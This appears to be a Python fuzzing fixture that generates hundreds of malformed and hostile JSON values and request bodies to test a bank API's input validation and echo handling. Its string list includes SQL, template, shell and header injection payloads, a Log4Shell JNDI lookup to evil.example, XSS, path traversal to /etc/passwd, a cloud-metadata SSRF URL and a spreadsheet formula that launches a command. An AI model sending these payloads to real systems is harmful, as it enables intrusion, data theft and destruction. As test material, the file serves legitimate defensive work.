"""Values that a bank is sent by mistake or on purpose: some 400 JSON fragments, and whole bodies.

``MARK`` stands in most texts: wherever it comes back from a refusal, the refusal has echoed.
"""

import json

MARK = "mArK7q"
PAN = "4111111111111111"
"""The number of no card; as a mark among numbers."""


def _quoted(*texts: str) -> list[bytes]:
    return [json.dumps(text, ensure_ascii=False).encode("utf-8", "surrogatepass") for text in texts]


NUMBERS: list[bytes] = [
    # whole ones
    b"0", b"-0", b"1", b"2", b"7", b"-1", b"-2", b"99", b"100", b"101", b"255", b"256", b"32767",
    b"65536", b"2147483647", b"2147483648", b"4294967296", b"-2147483649", b"9007199254740990",
    b"9007199254740991", b"9007199254740992", b"9007199254740993", b"-9007199254740991",
    b"9223372036854775807", b"9223372036854775808", b"-9223372036854775808",
    b"-9223372036854775809", b"18446744073709551615", b"18446744073709551616",
    b"100000000000000000000000000", b"1" + b"0" * 400, b"9" * 4301, b"-" + b"9" * 5000,
    PAN.encode(), PAN.encode() * 3,
    # with a point or an exponent
    b"1.0", b"0.0", b"-0.0", b"0.1", b"1.5", b"1e3", b"1E3", b"1e+3", b"1e-3", b"1e0", b"1e2",
    b"0e0",
    b"1e15", b"1e16", b"1e308", b"1e309", b"1e400", b"-1e400", b"1e99999", b"1e-99999",
    b"4.9e-324", b"9007199254740991.0", b"0.1e1", b"10e-1", b"1.0e0",
    b"1." + b"0" * 400, b"0." + b"0" * 400 + b"1", b"99999999999999999999.9",
    # no numbers to JSON
    b"NaN", b"nan", b"-NaN", b"Infinity", b"-Infinity", b"inf", b"+1", b"01", b"-01", b"1.", b".1",
    b"1e", b"1_000", b"1,000", b"0x10", b"0b1", b"0o7", b"--1", b"1 2", b"1/2", b"1n", b"1d",
    "１２".encode(), "٣".encode(), "\u00b2".encode(), "½".encode(), "−1".encode(),
    # texts that look like numbers
    *_quoted(
        "1", "0", "-1", "+1", "01", "1.0", "1e3", "1_000", "1,000", "1.000,00", " 1", "1 ", "0x10",
        "NaN", "Infinity", "-inf", "１", "٣٤", "१२", "𝟙", "Ⅷ", "1\u200b", "€1", "1 EUR", "true",
        "9007199254740992", "99999999999999999999", PAN, "-0", "1/1", "10%", "１００",
    ),
]  # fmt: skip

WORDS: list[bytes] = [
    b"true", b"false", b"null", b"True", b"TRUE", b"None", b"undefined", b"nil", b"yes", b"",
    b"[]", b"{}", b"[null]", b"[1]", b'["1"]', b"[[]]", b"[{}]", b'{"a":1}', b'{"$gt":0}',
    b'{"":""}',
    b'{"$ne":null}', b'{"amount":1}', b'{"__proto__":{"admin":true}}', b'{"a":{"b":{"c":{}}}}',
    b"[" + b"1," * 500 + b"1]", b"[" * 25 + b"]" * 25, b"[" * 40 + b"]" * 40,
    b"[" * 5000 + b"]" * 5000, b'{"a":' * 20 + b"1" + b"}" * 20, b'{"a":' * 40 + b"1" + b"}" * 40,
    b'{"a":1,"a":2}', b'{"a":1,"\\u0061":2}', b"'x'", b"`x`", b'"unfinished', b'"a\\x41"', b'"\\"',
    b'"a\tb"', b'"a\nb"', b"/* c */ 1", b"1 // c", b"1}", b"1,", b'1,"x":2', b'""', b'" "', b"\x00",
    b'{"k":"v"}', b'{"k":1}', b'{"' + b"k" * 41 + b'":"v"}', b'{"k":"' + b"v" * 501 + b'"}',
    b'{"a":"1"," a":"2"}', b'{"k":"\\u0000"}', b'{"\\u0000":"v"}', b'{"k":"\\ud800"}',
    b"{" + b",".join(b'"k%d":"v"' % n for n in range(20)) + b"}",
    b"{" + b",".join(b'"k%d":"v"' % n for n in range(21)) + b"}",
]  # fmt: skip

_OPEN_TEXTS: list[str] = [
    # injection of all kinds
    f"' OR '1'='1' -- {MARK}", f'" OR ""="{MARK}', f"1; DROP TABLE users; -- {MARK}", f"%{MARK}_%",
    f"') UNION SELECT secret FROM keys -- {MARK}", f"\\'; SELECT pg_sleep(9); -- {MARK}",
    f"{MARK}%", f"_{MARK}", f"\\{MARK}\\", f"\\%{MARK}", f"$1 {MARK}", f":name {MARK}", f"? {MARK}",
    f"{{{{7*7}}}}{MARK}", f"${{7*7}}{MARK}", f"#{{7*7}}{MARK}", f"<%= 7*7 %>{MARK}",
    f"{{%if%}}{MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}", f"%s%s%n%x{MARK}", f"%(password)s{MARK}",
    f"{{0.__class__.__init__.__globals__}}{MARK}", f"{{}}{{0}}{{password}}{MARK}", f"%d%i%u{MARK}",
    f"<script>alert('{MARK}')</script>", f"<img src=x onerror={MARK}>", f"javascript:{MARK}",
    f"]]><!ENTITY {MARK}>", f"&lt;{MARK}&gt;", f"<!--{MARK}-->", f"</textarea>{MARK}",
    f"&#x0;{MARK}",
    f"../../../../etc/passwd{MARK}", f"..\\..\\windows{MARK}", f"/dev/null{MARK}", f"C:\\con{MARK}",
    f"file:///etc/passwd{MARK}", f"http://169.254.169.254/{MARK}", f"//evil.example/{MARK}",
    f"; cat /etc/passwd {MARK}", f"| id {MARK}", f"$(id){MARK}", f"`id`{MARK}", f"&& id {MARK}",
    f"=1+1+cmd|' /C calc'!A0{MARK}", f"@SUM(1){MARK}", f"+1{MARK}", f"-1{MARK}", f"*)(uid=*{MARK}",
    f"{MARK}\r\nSet-Cookie: a=b", f"{MARK}\nX-Injected: 1", f"a\r\n\r\n{MARK}", f"{MARK}\tTab",
    f"%00{MARK}", f"%0d%0a{MARK}", f"%2e%2e%2f{MARK}", f"%c0%ae{MARK}", f"%u0000{MARK}", f"%{MARK}",
    f"a&b={MARK}", f"a;b={MARK}", f"a#b{MARK}", f"a+b {MARK}", f"~{MARK}/~0~1", f"{MARK}=",
    f"a\\u0000{MARK}",
    # what Unicode has in store
    f"a\u0000{MARK}", f"\u0000{MARK}", f"\u0001{MARK}x", f"x\u0007{MARK}", f"x\u001b[31m{MARK}",
    f"x\u007f{MARK}", f"x\u0085{MARK}", f"x\u009f{MARK}", f"x\u2028{MARK}", f"x\u2029{MARK}",
    f"x\u202e{MARK}", f"x\u202a{MARK}\u202c", f"x\u2066{MARK}\u2069", f"x\u200e{MARK}",
    f"x\u200b{MARK}", f"x\u200d{MARK}", f"x\u2060{MARK}", f"\ufeff{MARK}", f"x\ufeff{MARK}",
    f"\ufffd{MARK}", f"\ufffe{MARK}", f"\uffff{MARK}", f"\U0010ffff{MARK}", f"\ue000{MARK}",
    f"\u00ad{MARK}", f"\u034f{MARK}", f"\u180e{MARK}", f"\ufe0f{MARK}", f"\U000e0001{MARK}",
    f"\ud800{MARK}", f"{MARK}\udfff", f"\udc00\ud800{MARK}", "\ud83d" + MARK,
    f"Cafe\u0301 {MARK}", f"Caf\u00e9 {MARK}", f"\u212b{MARK}", f"\u0041\u030a{MARK}",
    f"\ufb01{MARK}",
    f"\u1e9b\u0323{MARK}", f"\u0344{MARK}", f"{MARK}" + "\u0301" * 100, "Z\u0351\u036b" * 40 + MARK,
    f"\u05e9\u05dc\u05d5\u05dd {MARK}", f"\u0645\u0631\u062d\u0628\u0627 {MARK}", f"日本語{MARK}",
    f"\U0001f469\u200d\U0001f680{MARK}", f"\U0001f1ea\U0001f1fa{MARK}",
    f"\U0001f3f4\u200d\u2620\ufe0f{MARK}",
    f"ı İ ß ſ ŉ {MARK}", f"ﷺ{MARK}", f"\u0130{MARK}", f"ａｄｍｉｎ{MARK}", f"\u0430dmin{MARK}",
    # length
    "", " ", "\t", "\u3000", f" {MARK} ", f"{MARK}" + " " * 300, "x" * 64, "x" * 65, "x" * 100,
    "x" * 101,
    "x" * 128, "x" * 129, "x" * 254, "x" * 255, "x" * 256, "x" * 500, "x" * 501, "x" * 1024,
    "x" * 1025,
    "é" * 255, "e\u0301" * 255, "\U0001f600" * 64, "ﷺ" * 100, MARK * 200, MARK * 10_000,
    # addresses and passwords
    f"{MARK}@example.test", f"{MARK}@example", f"{MARK}@[127.0.0.1]", f"@{MARK}",
    f"a@b@{MARK}.test",
    f'"{MARK}"@example.test', f"{MARK}@example.test\r\nBcc: x@y.test", f"{MARK}@xn--bcher-kva.test",
    f"{MARK}@bücher.test", f"{MARK} <a@example.test>", f"a..b{MARK}@example.test",
    "x" * 65 + "@a.test",
    f"{MARK}+tag@example.test", f"{MARK}@example.test.", f"a@{MARK}..test",
    "a@" + "x" * 250 + ".test",
    "password", "passwordpassword", "correct horse battery", "correct horse battery ", "Aa1!" * 3,
    # words that others take for something
    "null", "true", "None", "undefined", "NaN", "admin", "root", "system", "user", "checking",
    "EUR",
    "eur", "USD", "XXX", "XAU", "EURO", "€", "debit", "posted", "password", "current", "me", "*",
    ".", "..",
    "000000000000", "123456789012", "12345678901", "1234567890123",
    "\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19\uff10\uff11\uff12",
    "-23456789012",
]  # fmt: skip
TEXTS: list[bytes] = [
    *_quoted(*dict.fromkeys(_OPEN_TEXTS)),
    # escapes that a reader may take apart
    *(b'"' + text + MARK.encode() + b'"' for text in (
        b"\\u0000", b"\\ud800", b"\\udc00", b"\\ud83d\\ude00", b"\\ude00\\ud83d", b"\\u202e",
        b"\\u000a",
        b"\\u00", b"\\uZZZZ", b"\\U00000041", b"\\a", b"\\0", b"\\/", b"\\b\\f", b"\xff",
        b"\xc0\x80",
        b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\xc3(", b"\xef\xbb\xbf", b"\x00",
        b"\x1f",
    )),
]  # fmt: skip

DATES: list[bytes] = _quoted(
    "2026-01-31", "2024-02-29", "2000-02-29", "0001-01-01", "9999-12-31", "1970-01-01",
    "1969-12-31",
    "2026-02-29", "2026-02-30", "1900-02-29", "2026-04-31", "2026-00-10", "2026-13-01",
    "2026-01-00",
    "2026-01-32", "0000-01-01", "10000-01-01", "-0001-01-01", "+2026-01-01", "20260131", "2026-1-1",
    "2026-W05-1", "2026W051", "2026-031", "26-01-31", "2026/01/31", "31.01.2026", "01-31-2026",
    "2026-01", "2026-13", "2026-00", "2026", "0000-01", "9999-12", "2026-1", " 2026-01-31",
    "2026-01-31 ",
    "2026-01-31Z", "\uff12\uff10\uff12\uff16-01-31", "٢٠٢٦-01-31", "2026\u201001\u201031",
    "2026−01−31", "today", "now",
    "-1",
    "2026-01-31T10:00:00Z", "2026-01-31T10:00:00.5Z", "2026-01-31T10:00:00.123456Z",
    "2026-01-31t10:00:00z", "2026-01-31T10:00:00+00:00", "2026-01-31T10:00:00-00:00",
    "2026-01-31T10:00:00+14:00", "2026-01-31T10:00:00-12:00", "2026-01-31T10:00:00+23:59",
    "2026-01-31T10:00:00+24:00", "2026-01-31T10:00:00+99:99", "2026-01-31T10:00:00+0100",
    "2026-01-31T10:00:00+01", "2026-01-31T10:00:00", "2026-01-31 10:00:00Z", "2026-01-31_10:00:00Z",
    "2026-01-31T10:00Z", "2026-01-31T10Z", "2026-01-31T24:00:00Z", "2026-01-31T23:59:60Z",
    "2016-12-31T23:59:60Z", "2026-01-31T10:60:00Z", "2026-01-31T25:00:00Z", "2026-01-31T10:00:61Z",
    "2026-01-31T10:00:00.Z", "2026-01-31T10:00:00.1234567Z",
    "2026-01-31T10:00:00.12345678901234567890Z",
    "2026-01-31T10:00:00,5Z", "2026-02-30T10:00:00Z", "0001-01-01T00:00:00Z",
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:59:59.999999-00:01", "10000-01-01T00:00:00Z", "2026-W05-1T10:00:00Z",
    "20260131T100000Z", "2026-01-31T10:00:00Z[Europe/Berlin]", "2026-01-31T10:00:00 Z",
    "2026-01-31T10:00:00Z ", "1769853600", "1769853600.5", "2026-01-31T10:00:00UTC", "P1D", "１",
)  # fmt: skip

_ID = "0198c6ba-0000-7000-8000-00000000abcd"
IDS: list[bytes] = _quoted(
    _ID, _ID.upper(), "0198C6BA-0000-7000-8000-00000000abcd",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff", "0198c6ba-0000-1000-8000-00000000abcd",
    "0198c6ba-0000-4000-0000-00000000abcd", "0198c6ba-0000-f000-f000-00000000abcd",
    _ID.replace("-", ""), "{" + _ID + "}", "urn:uuid:" + _ID, "(" + _ID + ")", '"' + _ID + '"',
    _ID[:-1],
    _ID + "0", _ID + " ", " " + _ID, _ID + "\n", _ID.replace("-", "_"), _ID.replace("-", "\u2010"),
    _ID.replace("-", "−"), "0198c6ba00-00-7000-8000-00000000abcd",
    "0198c6ba-00007000-8000-00000000abcd",
    "g198c6ba-0000-7000-8000-00000000abcd", "０198c6ba-0000-7000-8000-00000000abcd", _ID + "\u200b",
    _ID + "," + _ID, _ID + ";x", _ID + "/..", "../" + _ID, _ID + "%00", "-" + _ID[1:],
    "+" + _ID[1:],
    "1", "0", "-1", "x" * 36, "-" * 36, "0" * 36, "a" * 1000,
    "0198c6ba-0000-7000-8000-0x000000abcd", "*",
    "0198c6ba-0000-7000-8000-00000000abc\u0430", "AZjGugAAcACAAAAAAACrzQ", f"{MARK}-{_ID}",
    f"{_ID}-{MARK}",
)  # fmt: skip

VALUES: list[bytes] = list(dict.fromkeys([*NUMBERS, *WORDS, *TEXTS, *DATES, *IDS]))
"""Every fragment once."""


def wires() -> list[str]:
    """The values as a query or a path can carry them: percent-encoded, invalid UTF-8 too."""
    plain = [_bare(value) for value in VALUES if len(value) < 4_000]
    odd = [
        "%",
        "%2",
        "%zz",
        "%u0041",
        "%ff",
        "%c0%80",
        "%ed%a0%80",
        "%00",
        "a%00b",
        "%E2%80%AE",
        "a%20b",
    ]
    return list(dict.fromkeys([*map(_encoded, plain), *odd]))  # fmt: skip


def _bare(value: bytes) -> bytes:
    """A quoted text without its quotes, where that is one; anything else as it stands."""
    try:
        text = json.loads(value)
    except ValueError:
        return value
    return text.encode("utf-8", "surrogatepass") if isinstance(text, str) else value


def _encoded(raw: bytes) -> str:
    return "".join(
        chr(byte) if chr(byte).isalnum() and byte < 128 else f"%{byte:02X}" for byte in raw
    )


def bodies(sound: bytes) -> list[bytes]:
    """Whole bodies that are no JSON document, made of one that is sound; none may be taken."""
    inner = sound[1:-1]
    name = inner.partition(b":")[0]
    return [
        b"", b" ", b"\n", b"null", b"true", b"0", b"1e3", b'"text"', b"[]", b"[{}]",
        b"[" + sound + b"]",
        b"{", b"}", b"{}}", sound[:-1], sound[1:], sound[: len(sound) // 2], sound + b"}",
        sound + sound,
        sound + b" " + sound, sound + b"\n" + sound, sound + b",", sound + b"x", sound + b"\x00",
        b"\x00" + sound, b"\xef\xbb\xbf" + sound, sound.decode().encode("utf-16"),
        sound.decode().encode("utf-16-le"), sound.decode().encode("utf-32"), b"\xff\xfe" + sound,
        b"\x1f\x8b\x08" + sound, b"{" + inner + b",}", b"{," + inner + b"}",
        b"{" + inner + b",," + b"}",
        b"{" + inner + b"," + inner + b"}", b"{" + name + b":1," + inner + b"}",
        b"{" + name + b":null," + inner + b"}", sound.replace(b'"', b"'"),
        b"{" + inner + b"} // end",
        b"/* begin */" + sound, sound.replace(b":", b"=", 1), b"{" + inner + b',"x":NaN}',
        b"{" + inner + b',"x":Infinity}', b"{" + inner + b',"x":-Infinity}',
        b"{" + inner + b',"x":1e400}',
        b"{" + inner + b',"x":-1e999999}', b"{" + inner + b',"x":"\\ud800"}',
        b"{" + inner + b',"x":"\\u0000"}',
        b"{" + inner + b',"\\u0000":1}', b"{" + inner + b',"x":"\xff"}', b"{" + inner + b',"x":1}',
        b"{" + inner + b',"":1}', b"{" + inner + b',"__proto__":{}}',
        b"{" + inner + b',"constructor":1}',
        b"{" + inner + b',"x":' + b"[" * 31 + b"]" * 31 + b"}",
        b"{" + inner + b',"x":' + b"[" * 33 + b"]" * 33 + b"}",
        b"{" + inner + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"[" * 100_000,
        b'{"a":' * 50_000, b"{" + inner + b',"x":' + b"9" * 200_000 + b"}",
        b"{" + inner + b',"x":1e' + b"9" * 10_000 + b"}",
        b"{" + inner + b',"x":"' + b"\xc3\xa9" * 400_000 + b'"}',
        b"{" + inner + b',"x":' + b" " * 1_100_000 + b"1}",
        b"a=b&c=d", b"<?xml version='1.0'?><x/>",
        b"--x\r\nContent-Disposition: form-data\r\n\r\n1\r\n--x--",
        b"- yaml: 1", b"\x80\x04K\x01.", b"\xa1aa\x01", b"%7B%7D", bytes(range(256)),
    ]  # fmt: skip


assert len(VALUES) >= 300
